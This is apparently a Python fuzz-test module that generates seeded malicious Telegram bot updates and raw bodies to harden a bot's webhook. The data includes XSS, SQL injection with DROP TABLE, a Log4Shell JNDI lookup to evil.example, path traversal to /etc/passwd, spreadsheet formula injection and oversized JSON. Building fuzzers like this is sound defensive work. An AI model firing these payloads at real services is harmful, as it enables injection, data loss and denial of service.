"""What somebody who means harm could send by Telegram's door: 500 updates, each of them different. Seeded."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from typing import Any

WORDS = (
    "<script>alert(1)</script>", "<b>dik", "</b></i></a>", '<a href="https://evil.example">klik</a>', "&lt;b&gt;&amp;",
    "{0.__class__.__mro__}", "{name}", "{", "}", "%s%n%(x)s", "${jndi:ldap://evil.example/a}", "'; DROP TABLE cases;--",
    "\u202egnirts\u202c", "\u200b" * 300, "\x00\x01\x1b[31mrood", "🧨" * 2_000, "a" * 9_000, "١٢٣", "9" * 400, "-1",
    "/start " + "x" * 300, "/start <b>", "/koppel", "/koppel ' OR 1=1", "/" * 50, "@send", "@delete:yes", "consent=yes",
    "123456782", "\n" * 500, "Ａ" * 100, "../../etc/passwd", "=cmd|' /C calc'!A0", "__proto__", "null", "\ufeff",
)  # fmt: skip
PRESSES = (
    "", "=", "@", "@@", "@change:", "@change:../../x", "@change:consent", "@topic:<b>", "@menu:__class__",
    "language=xx",
    "municipality=<script>", "consent=yes", "@send", "@done", "@skip", "@unknown", "@stop", "@restart", "@human",
    "@claim:PW-222222", "@delete:yes", "x" * 64, "é" * 32, "age_band=", "worker_types=own", "@dutch", "@explain",
    "@language", "role=question", "@menu:employer", "@change:name", "🧨=🧨", "{0}={1}", "occupation=" + "9" * 40,
)  # fmt: skip
VALUES: tuple[Any, ...] = (
    None, True, False, 0, -1, 1.5, 2**53, 2**63, -(2**63), "", "x", "7", [], {}, [[]], {"id": {"id": {}}}, ["a"] * 500,
)  # fmt: skip


def bodies(chance: random.Random, chats: list[int], group: int) -> Iterator[dict[str, Any]]:
    """Yield updates without end, for these chats; each lacks its `update_id`."""
    while True:
        yield chance.choice(KINDS)(chance, chance.choice(chats), group)


def _text(chance: random.Random, chat: int, _group: int) -> dict[str, Any]:
    return {"message": {**_message(chat), "text": chance.choice(WORDS)}}


def _press(chance: random.Random, chat: int, _group: int) -> dict[str, Any]:
    query = {"id": str(chance.getrandbits(60)), "from": _message(chat)["from"], "message": _message(chat)}
    return {"callback_query": {**query, "chat_instance": "1", "data": chance.choice(PRESSES)}}


def _bent(chance: random.Random, chat: int, group: int) -> dict[str, Any]:
    """Return an update in which one thing somewhere is not what it should be."""
    update = json.loads(json.dumps(chance.choice((_text, _press, _contact))(chance, chat, group)))
    place = update
    while True:
        key = chance.choice(list(place))
        if not isinstance(place[key], dict) or not place[key] or chance.random() < 0.3:
            place[key] = chance.choice(VALUES)
            return dict(update)
        place = place[key]


def _contact(chance: random.Random, chat: int, _group: int) -> dict[str, Any]:
    contact = {"phone_number": chance.choice((*WORDS, "31612345678")), "first_name": chance.choice(WORDS)}
    return {"message": {**_message(chat), "contact": contact}}


def _other(chance: random.Random, chat: int, _group: int) -> dict[str, Any]:
    kind = chance.choice(
        ("photo", "voice", "sticker", "location", "video_note", "passport_data", "web_app_data", "dice")
    )
    return {"message": {**_message(chat), kind: chance.choice(VALUES)}}


def _edited(chance: random.Random, chat: int, _group: int) -> dict[str, Any]:
    return {"edited_message": {**_message(chat), "text": chance.choice(WORDS), "edit_date": 1}}


def _in_group(chance: random.Random, chat: int, group: int) -> dict[str, Any]:
    there = {**_message(chat), "chat": {"id": group, "type": "supergroup", "title": "Staff"}}
    if chance.random() < 0.5:
        return {"message": {**there, "text": chance.choice(WORDS)}}
    data = chance.choice((*PRESSES, "@claim:", "@claim:PW-222222' OR 1=1", "@claim:" + "x" * 57))
    return {"callback_query": {"id": "1", "from": there["from"], "message": there, "chat_instance": "1", "data": data}}


def _nothing(chance: random.Random, _chat: int, _group: int) -> dict[str, Any]:
    return {chance.choice(("message", "callback_query", "my_chat_member", "poll", "x" * 100)): chance.choice(VALUES)}


def _membership(chance: random.Random, chat: int, _group: int) -> dict[str, Any]:
    status = {"status": chance.choice(("kicked", "member", "left", 5, None))}
    return {"my_chat_member": {"chat": _message(chat)["chat"], "from": {"id": chat}, "new_chat_member": status}}


def _message(chat: int) -> dict[str, Any]:
    person = {"id": chat, "is_bot": False, "first_name": "<b>Mal", "language_code": "{0}"}
    return {"message_id": 9, "date": 1, "chat": {"id": chat, "type": "private"}, "from": person}


KINDS = (_text, _text, _text, _press, _press, _bent, _bent, _contact, _other, _edited, _in_group, _nothing, _membership)

RAW = (
    b"", b"null", b"[]", b"7", b'"x"', b"{", b"\xff\xfe{}", b'{"update_id": 1', b"[" * 100_000, b'{"a":' * 50_000,
    b'{"update_id": "1", "message": {}}', b'{"update_id": 1e400}', b'{"update_id": 5, "message": {"text": "\\ud800"}}',
    b'{"message": {"text": "no number"}}', b" " * 2_000_000,
    b'{"update_id": 6, "message": "' + b"x" * 1_200_000 + b'"}',
)  # fmt: skip
"""Bodies that are posted as they are."""
